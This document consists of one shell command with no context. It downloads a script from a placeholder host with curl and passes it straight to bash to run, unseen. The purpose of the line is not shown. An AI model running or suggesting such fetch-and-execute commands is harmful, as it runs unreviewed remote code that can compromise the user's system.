bash <(curl -s https://x.example/s)
